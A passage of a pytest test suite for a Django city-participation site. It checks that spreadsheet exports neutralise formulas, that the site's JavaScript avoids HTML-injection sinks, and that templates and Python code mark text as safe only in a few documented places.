            problems += [f"{where.name}: a formula" for n in sheets if b"<f>" in book.read(n)]
            problems += [
                f"{where.name}: {cell.value[:30]!r} is not text"
                for sheet in load_workbook(io.BytesIO(content))
                for row in sheet.iter_rows()
                for cell in row
                if isinstance(cell.value, str) and cell.data_type != "s"
            ]
        found = found_fields(where, world, response, content)
        problems += [
            f"{where.name} × {tag}: missing"
            for tag in where.fields.split()
            if tag not in found and where.kind == "xlsx"
        ]
    assert not problems, "\n".join(problems)


def test_defused_text_keeps_what_was_written_after_the_apostrophe():
    world = city_where_every_text_holds(formula_for)
    response, content = fetch(
        next(w for w in WHERE if w.name == "open data sachstaende.csv"), world
    )
    [row] = list(csv.DictReader(io.StringIO(content.decode())))
    assert row["text"] == "'" + world.values["update.text"]
    assert row["progress_percent"] == "40"  # numbers stay numbers


# --- What the site's own JavaScript and templates do with text --------------------------

HTML_SINKS = (
    "innerHTML",
    "outerHTML",
    "insertAdjacentHTML",
    "document.write",
    "eval(",
    "new Function",
    'setTimeout("',
    "bindTooltip(",
    ".html(",
)


@pytest.mark.parametrize(
    "path", sorted(p.name for p in (Path(settings.BASE_DIR) / "static/js").glob("*.js"))
)
def test_the_sites_scripts_never_turn_text_into_html(path):
    """Leaflet's bindPopup takes HTML when given a string: the idea map gives it an
    element built with textContent (tests/ideas/test_ideas_xss.py)."""
    source = (Path(settings.BASE_DIR) / "static/js" / path).read_text()
    code = re.sub(r"/\*.*?\*/|//[^\n]*", "", source, flags=re.S)

    assert [sink for sink in HTML_SINKS if sink in code] == []
    for argument in re.findall(r"bindPopup\(([^)]*)\)", code):
        assert argument.startswith("popupContent("), argument
    for argument in re.findall(r"divIcon\(\{[^}]*html:\s*([^,\n]*)", code):
        assert not argument.strip().startswith(('"', "'", "`")), argument


TEMPLATE_DIRS = [
    Path(settings.BASE_DIR) / "templates",
    *Path(settings.BASE_DIR).glob("*/templates"),
    *Path(settings.BASE_DIR).glob("jena_smart/*/templates"),
]
# The only places where HTML is put into a page unescaped, and why that is safe.
SAFE_ON_PURPOSE = {
    # The developers' own help texts (as Django's admin does).
    "forms/kern_field.html": {"field.help_text|safe"},
    # The report's body: rendered by us with autoescape on, stored, shown as is (and the
    # same HTML for WeasyPrint); test_the_html_the_pdf_is_made_from_has_the_text_escaped.
    # ``report_html``: the stored HTML of the page's language (report.html or .html_en).
    "reports/report_detail.html": {"report_html|safe"},
    "reports/report_document.html": {"body|safe"},
}


def test_no_template_prints_text_unescaped_except_on_purpose():
    found: dict[str, set[str]] = {}
    for directory in TEMPLATE_DIRS:
        for template in directory.rglob("*.html"):
            source = template.read_text()
            name = str(template.relative_to(directory))
            for match in re.finditer(r"\{\{\s*([^}]*\|\s*safe(?:seq)?)\s*\}\}", source):
                found.setdefault(name, set()).add(re.sub(r"\s", "", match[1]))
            assert "{% autoescape off" not in source, name  # only the .txt e-mails
    assert found == SAFE_ON_PURPOSE


def test_no_python_code_marks_text_as_safe():
    """format_html escapes its arguments; mark_safe and SafeString would not."""
    offenders = []
    for app in (
        "jena_smart",
        "measures",
        "projects",
        "participation",
        "reports",
        "opendata",
        "privacy",
        "verification",
    ):
        for source in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            text = source.read_text()
            if re.search(r"\bmark_safe\b|\bSafeString\b|\bSafeText\b|\|safe\b", text):
                offenders.append(str(source.relative_to(settings.BASE_DIR)))
    assert offenders == []
